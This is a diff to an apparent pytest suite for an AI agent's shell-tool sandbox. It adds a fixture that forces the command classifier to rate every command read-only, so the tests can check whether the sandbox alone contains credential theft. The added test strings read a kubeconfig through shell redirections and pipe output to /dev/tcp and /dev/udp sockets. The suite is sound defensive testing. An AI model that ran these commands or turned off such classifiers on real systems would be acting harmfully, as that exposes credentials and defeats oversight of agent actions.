@@ -44,6 +44,7 @@ import pytest
 from runtime.tools.base import ToolResult
 from runtime.tools.gateway import ToolGateway
 from runtime.tools.shell import classify, execute
+from runtime.tools.shell import classify as _real_classify
 from runtime.tools.shell import execution as execution_module
 from runtime.tools.shell import tool as tool_module
 from runtime.tools.shell.sandbox import SandboxConfig, bot_files, probe
@@ -239,30 +240,40 @@ def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, clean_env: None) -> I
 # -- running ---------------------------------------------------------------------
 
 
-_SHELL_SYNTAX = set(";|&<>$`(){}*?[]~!#=\n\\'\"")
+def _forced_as(profile: str | None) -> Any:
+    """The bypass: every command is read-only and low risk, with the sandbox
+    profile given. The parse (the simple commands found, whether it is one
+    simple command) stays the real classifier's: the verdict is what is bypassed."""
+
+    def forced(command: str) -> Classification:
+        return _real_classify(command).model_copy(
+            update={
+                "action_type": "read",
+                "risk_level": "low",
+                "requires_approval": False,
+                "blocked": False,
+                "reason": FORCED_REASON,
+                "sandbox_profile": profile,
+            }
+        )
+
+    return forced
 
 
-def _forced(command: str) -> Classification:
-    """The bypass: every command is read-only and low risk. A command of plain
-    words is marked simple, so it takes the argv path (no shell) like a real
-    simple command; anything else goes through bash."""
-    simple = not (set(command) & _SHELL_SYNTAX)
-    return Classification(
-        action_type="read",
-        risk_level="low",
-        requires_approval=False,
-        blocked=False,
-        reason=FORCED_REASON,
-        commands=[command.split()] if simple else [],
-        simple=simple,
-        sandbox_profile=None,
-    )
+_forced = _forced_as(None)
 
 
 @pytest.fixture
-def bypass(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(tool_module, "classify", _forced)
-    monkeypatch.setattr(execution_module, "classify", _forced)
+def bypass(monkeypatch: pytest.MonkeyPatch) -> Any:
+    """Force "read-only" where tool.py and execution.py import `classify`;
+    call the fixture's value with a profile name to force that profile too."""
+
+    def force(profile: str | None = None) -> None:
+        monkeypatch.setattr(tool_module, "classify", _forced_as(profile))
+        monkeypatch.setattr(execution_module, "classify", _forced_as(profile))
+
+    force()
+    return force
 
 
 async def _gather(commands: list[str], run: Any) -> list[tuple[str, ToolResult]]:
@@ -452,6 +463,15 @@ PIGGYBACK = [
     "kubectl version --client; cat {kube}",
     "helm version; cat {kube}",
     "kubectl get pods | cat - {kube}",
+    # a companion filter reading the credentials through a redirection, not an operand
+    "kubectl version --client; cat < {kube}",
+    "kubectl version --client | cat - < {kube}",
+    "kubectl version --client; head -c 300 0< {kube}",
+    "{ cat; } < {kube}; kubectl version --client",
+    "kubectl version --client; tac < {kube}",
+    # a companion filter's output redirected to the network
+    "kubectl version --client 2>&1 | cat > /dev/tcp/127.0.0.1/{port}",
+    "kubectl version --client | cat > /dev/udp/127.0.0.1/{uport}",
 ]
 
 # Runaway: each must end within its bound, leaving the bot well.
@@ -505,6 +525,42 @@ async def test_bypassed_connections_reach_nothing(world: World, bypass: None) ->
         f"{world.listener.reached - 1} connection(s) or datagram(s) left the sandbox; "
         "outputs:\n" + "\n".join(f"{c}: {_text(r)[:200]}" for c, r in results)
     )
+
+
+async def test_bypassed_profile_lends_nothing_to_the_rest_of_the_command(
+    world: World, bypass: Any
+) -> None:
+    """Forced read-only *and* given the kubernetes profile (network, the kubeconfig):
+    only kubectl/helm may use it, not a program, a redirection or a socket beside them."""
+    bypass("kubernetes")
+    baseline = 0
+    if shutil.which("kubectl"):
+        # Control: kubectl alone does get the network in this profile.
+        await _run_bypassed(
+            world,
+            [
+                world.fill(
+                    "kubectl get --raw / --server=http://127.0.0.1:{port} --request-timeout=3s"
+                )
+            ],
+        )
+        assert await _wait_for(lambda: world.listener.reached >= 1), "control never connected"
+        baseline = await _settled(world.listener)
+    results = await _run_bypassed(world, _commands(world, PIGGYBACK + NETWORK))
+    await _wait_for(lambda: world.listener.reached > baseline, within=1.0)
+    leaked = [(c, _leaks(world, r)) for c, r in results if _leaks(world, r)]
+    problems = []
+    if leaked:
+        problems.append(
+            "the profile's kubeconfig reached another program:\n"
+            + "\n".join(f"  {c!r}" for c, _ in leaked)
+        )
+    if world.listener.reached != baseline:
+        problems.append(
+            f"{world.listener.reached - baseline} connection(s)/datagram(s) "
+            "used the borrowed network"
+        )
+    assert not problems, "\n".join(problems)
 
 
 async def test_bypassed_secret_reads_print_no_secret(world: World, bypass: None) -> None:
@@ -688,6 +744,20 @@ async def test_execute_refuses_blocked_commands_whatever_the_caller_says(world: 
     assert not ran, f"execute ran blocked commands: {ran}"
     assert all(r.metadata.get("returncode") is None for _, r in results)
     assert not not_blocked, f"the classifier does not block: {not_blocked}"
+
+
+async def _settled(listener: Listener, quiet: float = 0.5, within: float = 5.0) -> int:
+    """The listener's count once it stopped changing (a client may retry)."""
+    loop = asyncio.get_running_loop()
+    deadline = loop.time() + within
+    last, since = listener.reached, loop.time()
+    while loop.time() < deadline:
+        await asyncio.sleep(0.05)
+        if listener.reached != last:
+            last, since = listener.reached, loop.time()
+        elif loop.time() - since >= quiet:
+            break
+    return last
 
 
 async def _wait_for(predicate: Any, within: float = 5.0) -> bool:
